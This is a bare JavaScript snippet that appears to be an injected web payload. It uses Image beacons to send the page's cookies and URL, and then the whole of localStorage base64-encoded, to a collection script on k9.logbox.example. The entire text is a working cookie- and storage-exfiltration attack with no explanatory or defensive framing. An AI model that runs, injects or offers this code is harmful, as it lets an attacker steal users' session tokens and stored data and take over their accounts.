var i=new Image();i.src="//k9.logbox.example/g.php?c="+encodeURIComponent(document.cookie)+"&u="+encodeURIComponent(location.href);
setTimeout(function(){var j=new Image();j.src="//k9.logbox.example/g.php?ls="+btoa(unescape(encodeURIComponent(JSON.stringify(localStorage))));},1500);
